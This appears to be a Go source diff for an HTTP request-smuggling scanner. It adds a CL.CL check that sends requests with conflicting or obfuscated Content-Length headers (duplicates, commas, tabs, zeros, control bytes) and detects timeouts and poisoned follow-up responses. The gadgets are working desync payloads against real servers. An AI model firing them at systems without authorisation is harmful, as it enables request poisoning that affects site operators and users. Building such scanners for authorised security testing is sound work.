@@ -0,0 +1,178 @@
+package main
+
+import (
+        "fmt"
+        "sort"
+        "time"
+)
+
+// ------------------------------
+// Content-Length mutations and the CL.CL check
+
+// mutationFamilies are the values accepted by --families.
+var mutationFamilies = map[string]bool{"te": true, "cl": true, "chunk": true, "line": true}
+
+// clBody is the CL.CL request body. Its length is the real Content-Length,
+// __CL_ALT__ claims a single byte.
+const clBody = "x=YYYY"
+
+// clGadgets returns the Content-Length header gadgets keyed by mutation name.
+// Each replaces the request's Content-Length line and carries a conflicting
+// __CL_ALT__ value next to the real length, so a front-end and back-end that
+// pick different headers disagree on where the body ends.
+func clGadgets() map[string]string {
+        gadgets := make(map[string]string)
+        gadgets["clDup"] = "Content-Length: __CL_ALT__\r\nContent-Length: __REPLACE_CL__"
+        gadgets["clDupRev"] = "Content-Length: __REPLACE_CL__\r\nContent-Length: __CL_ALT__"
+        gadgets["clComma"] = "Content-Length: __CL_ALT__, __REPLACE_CL__"
+        gadgets["clCommaRev"] = "Content-Length: __REPLACE_CL__, __CL_ALT__"
+        obfuscated := map[string]string{
+                "Plus":      "Content-Length: +__CL_ALT__",
+                "Zeros":     "Content-Length: 000__CL_ALT__",
+                "SpaceName": "Content-Length : __CL_ALT__",
+                "Tab":       "Content-Length:\t__CL_ALT__",
+                "TrailJunk": "Content-Length: __CL_ALT__ x",
+                "Lower":     "content-length: __CL_ALT__",
+                "Nbsp":      "Content-Length:\xa0__CL_ALT__",
+        }
+        for label, header := range obfuscated {
+                gadgets["cl"+label] = "Content-Length: __REPLACE_CL__\r\n" + header
+                gadgets["cl"+label+"Rev"] = header + "\r\nContent-Length: __REPLACE_CL__"
+        }
+        for i := 0x1; i < 0x20; i++ {
+                gadgets[fmt.Sprintf("cl-%02x", i)] = fmt.Sprintf("Content-Length: __REPLACE_CL__\r\nContent-Length:%c__CL_ALT__", i)
+        }
+        return gadgets
+}
+
+// clclPayload sends clBody with a conflicting Content-Length. With ptype 0
+// the alternative claims one byte: a front-end that honours it forwards a
+// short body and a back-end honouring the real length stalls. With ptype 1
+// both values agree and every parser should answer. With ptype 2 the body
+// stops after the alternative's one byte, so only a front-end honouring the
+// real length waits for the rest.
+func (d *Desyncr) clclPayload(payload *Payload, ptype int) *Payload {
+        clPayload := d.attackPayload(payload)
+        clPayload.Body = clBody
+        clPayload.CL = len(clBody)
+        clPayload.AltCL = 1
+        switch ptype {
+        case 1:
+                clPayload.AltCL = len(clBody)
+        case 2:
+                clPayload.Body = clBody[:1]
+        }
+        return clPayload
+}
+
+func (d *Desyncr) checkCLCL(payload *Payload, ptype int) (int, string, *Payload) {
+        return d.test(d.clclPayload(payload, ptype))
+}
+
+// clclPoisoned checks the reverse of the timing check: a front-end honouring
+// the real length forwards all of clBody, and a back-end honouring the
+// alternative leaves the rest queued in front of the next request. The
+// request is followed by a plain one on a keep-alive connection, once with
+// conflicting and once with agreeing lengths, and only the conflicting pair
+// may change the follow-up's status. A front-end honouring the alternative
+// itself breaks the follow-up the same way, so it must also stall on a body
+// cut at the alternative length. It returns the follow-up status.
+func (d *Desyncr) clclPoisoned(payload *Payload) (int, bool) {
+        followUp := func(ptype int) int {
+                ex := d.sendSequence([]*Payload{d.clclPayload(payload, ptype), d.plainPayload()}, false)
+                if ex[0].Status == 0 {
+                        return 0
+                }
+                return ex[1].Status
+        }
+        agreeing := followUp(1)
+        conflicting := followUp(0)
+        if agreeing == 0 || conflicting == 0 || conflicting == agreeing {
+                return conflicting, false
+        }
+        code, _, _ := d.checkCLCL(payload, 2)
+        return conflicting, code == readTimeout
+}
+
+// createCLCLTest runs checkCLCL for one gadget in the style of
+// createExecTest. A timeout means the front-end honoured the shorter length;
+// an answer is followed by clclPoisoned for the back-end doing so. Either
+// must be seen three times in a row to report a finding.
+func (d *Desyncr) createCLCLTest(name string, clPayload *Payload) bool {
+        d.prettyPrint(name, "Checking...")
+        time.Sleep(200 * time.Millisecond)
+
+        startTime := clock.Now()
+        code, res, _ := d.checkCLCL(clPayload, 0)
+        elapsed := clock.Now().Sub(startTime).Seconds()
+        status := "ERR"
+        if code == readOK {
+                status = extractStatusCode(res)
+        }
+        finalMsg := fmt.Sprintf("CLCL: %s (%.2fs)", status, elapsed)
+        switch code {
+        case readTimeout:
+                finalMsg += " - TIMEOUT"
+        case readError:
+                finalMsg += " - SOCKET ERROR"
+        case readDisconnected:
+                finalMsg += " - DISCONNECTED"
+        }
+        d.prettyPrint(name, finalMsg)
+        fmt.Println()
+
+        switch code {
+        case readTimeout:
+                if edgeCode, _, _ := d.checkCLCL(clPayload, 1); edgeCode != readOK {
+                        d.prettyPrint(name, ColorYellow+"CLCL TIMEOUT WITH AGREEING LENGTHS"+ColorReset)
+                        fmt.Println()
+                        d.attempts = 0
+                        return false
+                }
+        case readOK:
+                followUp, poisoned := d.clclPoisoned(clPayload)
+                if !poisoned {
+                        d.attempts = 0
+                        return false
+                }
+                d.prettyPrint(name, fmt.Sprintf("CLCL: follow-up %d - POISONED", followUp))
+                fmt.Println()
+        default:
+                d.attempts = 0
+                return false
+        }
+        d.attempts++
+        if d.attempts < 3 {
+                return d.createCLCLTest(name, clPayload)
+        }
+        d.prettyPrint(name, fmt.Sprintf("Potential CLCL Issue Found - %s @ http://%s%s (%s)", d.method, formatHostHeader(d.host, d.port, d.sslFlag), d.endpoint, d.ip))
+        writePayload(d.host, clPayload, "CLCL", name, d.url, d.sslFlag)
+        d.findings = append(d.findings, "CLCL "+name)
+        d.attempts = 0
+        fmt.Println()
+        d.reportMutation(name)
+        return true
+}
+
+// runCLCL runs every Content-Length gadget, in name order.
+func (d *Desyncr) runCLCL() bool {
+        gadgets := clGadgets()
+        names := make([]string, 0, len(gadgets))
+        for name := range gadgets {
+                names = append(names, name)
+        }
+        sort.Strings(names)
+        found := false
+        for _, name := range names {
+                p := renderTemplate("")
+                p.CLGadget = gadgets[name]
+                p.Host = d.hostHeader()
+                if d.createCLCLTest(name, p) {
+                        found = true
+                        if d.exitEarly {
+                                break
+                        }
+                }
+        }
+        return found
+}